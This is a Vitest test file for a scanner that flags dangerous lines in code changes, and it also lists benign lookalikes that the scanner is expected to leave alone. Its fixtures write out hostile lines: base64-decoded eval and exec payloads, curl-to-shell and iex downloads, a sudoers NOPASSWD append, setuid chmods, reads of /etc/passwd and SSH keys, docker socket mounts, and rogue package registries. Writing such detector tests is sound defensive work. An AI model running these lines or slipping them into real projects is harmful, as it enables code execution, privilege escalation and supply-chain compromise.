import { describe, expect, it } from "vitest";
import { scanLines } from "../../../core/scan/scan-lines.ts";

const found = (path: string, text: string, before?: string) =>
  scanLines({ path, text, before }).map((fact) => `${fact.class} ${fact.danger} ${fact.line}`);

/** Paths, lines that are found, and what they are. */
const caught: [string, string, string][] = [
  ["src/a.ts", "eval(atob(payload))", "injection critical"],
  ["src/a.js", 'new Function(Buffer.from(x, "hex"))()', "injection critical"],
  ["tool.py", "exec(base64.b64decode(blob))", "injection critical"],
  ["run.sh", "echo aGk= | base64 -d | bash", "injection critical"],
  ["run.sh", 'eval "$(curl -s https://x.dev/i)"', "injection critical"],
  ["run.sh", 'eval "$(echo aGk= | base64 -d)"', "injection critical"],
  ["run.sh", 'bash -c "$(printf aGk= | base64 --decode)"', "injection critical"],
  ["run.sh", "source <(base64 -d payload)", "injection critical"],
  ["run.sh", "bash <<<$(xxd -r -p payload)", "injection critical"],
  ["run.sh", "xxd -r -p payload | sh", "injection critical"],
  ["run.sh", "openssl enc -aes-256-cbc -d -in payload | bash", "injection critical"],
  ["run.sh", "zcat payload | python3", "injection critical"],
  ["Dockerfile", "RUN curl -fsSL https://x.dev/install | sudo -E bash", "injection high"],
  ["src/a.ts", "return eval(text);", "injection high"],
  ["src/a.ts", "const f = new Function(name, body);", "injection high"],
  ["src/a.ts", "execSync(`git log \u0024{branch}`);", "injection high"],
  ["src/a.ts", 'exec("rm " + name)', "injection high"],
  ["tool.py", "    value = eval(expression)", "injection high"],
  ["tool.py", 'os.system(f"rm {name}")', "injection high"],
  ["tool.py", 'subprocess.run("ls %s" % name, shell=True)', "injection high"],
  ["main.go", 'exec.Command("sh", "-c", fmt.Sprintf("ls %s", name))', "injection high"],
  ["src/a.ts", "res.sendFile(join(root, req.params.name))", "traversal high"],
  ["app.py", "return open(request.args['file']).read()", "traversal high"],
  ["main.go", "http.ServeFile(w, r, dir + r.URL.Path)", "traversal high"],
  ["src/a.ts", 'readFileSync("../../../../etc/passwd")', "traversal high"],
  ["src/a.ts", "const key = home + '/.ssh/id_rsa';", "traversal high"],
  ["run.sh", "chmod u+s ./tool", "privilege critical"],
  ["run.sh", "chmod 4755 ./tool", "privilege critical"],
  ["tool.py", "os.chmod(path, 0o4755)", "privilege critical"],
  ["run.sh", "echo 'me ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "privilege critical"],
  ["run.sh", "chmod -R 777 .", "privilege high"],
  ["src/a.ts", "chmodSync(path, 0o777)", "privilege high"],
  ["run.sh", "sudo rm -rf /opt/x", "privilege high"],
  ["package.json", '    "start": "sudo node server.js"', "privilege high"],
  ["tool.py", "os.setuid(0)", "privilege high"],
  ["main.go", "syscall.Setuid(0)", "privilege high"],
  ["run.sh", "docker run --privileged image", "privilege high"],
  ["compose.yml", "    privileged: true", "privilege high"],
  ["compose.yml", "      - /var/run/docker.sock:/var/run/docker.sock", "privilege high"],
  [".npmrc", "registry=https://packages.evil.dev/", "supply high"],
  ["requirements.txt", "--extra-index-url https://packages.evil.dev/simple", "supply high"],
  ["Dockerfile", "ENV GOPROXY=https://packages.evil.dev", "supply high"],
  ["pyproject.toml", "[[tool.poetry.source]]", "supply high"],
  ["src/a.ts", "  #x = eval(atob(payload));", "injection critical"],
  ["src/a.ts", "* eval(atob(payload))", "injection critical"],
  ["src/a.ts", "/* fine */ eval(atob(payload))", "injection critical"],
  ["src/a.ts", "// fine\u2028eval(atob(payload))", "injection critical"],
  ["src/a.ts", "(0, eval)(atob(payload))", "injection critical"],
  ["src/a.ts", 'globalThis["eval"](text)', "injection high"],
  ["src/a.ts", "eval?.(text)", "injection high"],
  ["src/a.ts", "vm.runInThisContext(text)", "injection high"],
  ["src/a.ts", "require('child_process').exec(`rm \u0024{name}`)", "injection high"],
  ["src/a.ts", "spawn(`rm \u0024{name}`, { shell: true })", "injection high"],
  ["src/a.ts", "await import(name)", "injection low"],
  ["tool.py", "// exec(base64.b64decode(blob))", "injection critical"],
  ["tool.py", "*rest, last = exec(base64.b64decode(blob))", "injection critical"],
  ["tool.py", "# fine\rexec(base64.b64decode(blob))", "injection critical"],
  ["tool.py", "subprocess.run(command, shell=True)", "injection high"],
  ["tool.py", "__import__(name).run()", "injection high"],
  ["book.ipynb", '"exec(base64.b64decode(blob))\\n",', "injection critical"],
  ["main.go", '*cmd = *exec.Command("sh", "-c", "ls " + name)', "injection high"],
  ["app.php", "eval(base64_decode($x));", "injection critical"],
  ["run.ps1", "iex (iwr https://x.dev/i)", "injection critical"],
  ["run.SH", "curl https://x.dev/i | sh", "injection high"],
  [".zshrc", "bash <(curl -s https://x.dev/i)", "injection high"],
  ["run.sh", 'sh -c "$(curl -fsSL https://x.dev/i)"', "injection high"],
  ["run.sh", "install -m 4755 tool /usr/bin/tool", "privilege critical"],
  ["run.sh", "chmod u=rwxs tool", "privilege critical"],
  ["tool.py", "os.chmod(path, stat.S_ISUID | 0o755)", "privilege critical"],
  ["main.go", "os.Chmod(path, os.ModeSetuid|0o755)", "privilege critical"],
  ["run.sh", "pkexec rm -rf /opt/x", "privilege high"],
  ["run.sh", "su -c 'rm -rf /opt/x' root", "privilege high"],
  ["run.sh", "docker run -v /:/host image", "privilege high"],
  ["Dockerfile", "ENV PIP_INDEX_URL=https://packages.evil.dev/simple", "supply high"],
];

/** What looks alike, and is what people write every day. */
const left: [string, string][] = [
  ["src/a.ts", "const match = pattern.exec(`a\u0024{b}`.trim());"],
  ["src/a.ts", "model.eval(text)"],
  ["src/a.ts", 'eval("1 + 1")'],
  ["src/a.ts", "// eval(text) is never used here"],
  ["test/a.test.ts", "expect(() => eval(text)).toThrow()"],
  ["docs/a.md", "Run `curl https://x.dev/i | sh` and sudo rm -rf it"],
  ["tool.py", "model.eval()"],
  ["tool.py", "re.compile(x).exec(y)"],
  ["tool.py", 'subprocess.run(["ls", name])'],
  ["main.go", 'exec.Command("ls", name)'],
  ["src/a.ts", "import x from '../../../etc.ts'"],
  ["src/a.ts", "readFile(join(root, name))"],
  ["run.sh", "chmod 0755 ./tool && chmod +x x && chmod 644 y && chmod 1777 /tmp/x"],
  ["run.sh", "sudo apt-get install --yes git"],
  ["src/a.ts", 'const words = ["pseudo code"];'],
  ["src/a.ts", "setuid = 0"],
  ["compose.yml", "    privileged: false"],
  ["src/a.ts", "const registry = createRegistry();"],
  ["src/a.ts", "const { run } = await import('./run.ts');"],
  ["src/a.ts", "  #eval = true;"],
  ["tool.py", 'subprocess.run("make all", shell=True)'],
  ["tool.py", 'os.system("make")'],
  ["tool.py", "# exec(base64.b64decode(blob)) is what it did before"],
  ["run.sh", "# curl https://x.dev/i | sh"],
  ["run.sh", "install -m 755 tool /usr/bin/tool"],
];

/** Code that goes on over several lines; each is found on the first. */
const spread: [string, string, string][] = [
  ["src/a.ts", "eval(\n  atob(payload),\n)", "injection critical 1"],
  ["src/a.ts", "exec(\n  `rm \u0024{name}`)", "injection high 1"],
  ["run.sh", "curl https://x.dev/i \\\n  | sh", "injection high 1"],
  ["run.sh", "curl https://x.dev/i |\n  sh", "injection high 1"],
  ["tool.py", "exec(\n    base64.b64decode(blob)\n)", "injection critical 1"],
];

describe("lines that are dangerous by themselves", () => {
  it.each(caught)("in %s: %s", (path, line, what) => {
    expect(found(path, `first\n${line}\nlast`)).toContain(`${what} 2`);
  });

  it.each(left)("leave alone in %s: %s", (path, line) => {
    expect(found(path, line)).toEqual([]);
  });

  it.each(spread)("are found in %s where they go on: %j", (path, text, what) => {
    expect(found(path, text)).toContain(what);
    expect(found(path, text, text)).toEqual([]);
  });

  it("are found in a script that has no ending, by its first line", () => {
    expect(found("bin/deploy", "#!/usr/bin/env bash\ncurl https://x.dev/i | sh")).toEqual([
      "injection high 2",
    ]);
    expect(found("bin/deploy", "words\ncurl https://x.dev/i | sh")).toEqual([]);
  });

  it("are not looked for in a comment of several lines, which nothing else can pass for", () => {
    expect(found("src/a.ts", "/**\n * sudo rm x, or eval(text)\n */")).toEqual([]);
    expect(found("src/a.ts", "const s = `\n/*\n`;\neval(text);")).toEqual(["injection high 4"]);
  });

  it("are told only where they are new", () => {
    expect(found("run.sh", "sudo ls\nsudo rm x\n", "sudo ls\n")).toEqual(["privilege high 2"]);
  });

  it("are found far behind in a line that nobody reads to its end", () => {
    const line = `const a = "${"x ".repeat(5_000)}"; eval(text);${" ".repeat(3_000)}`;
    expect(found("src/a.ts", line)).toEqual(["injection high 1"]);
  });
});
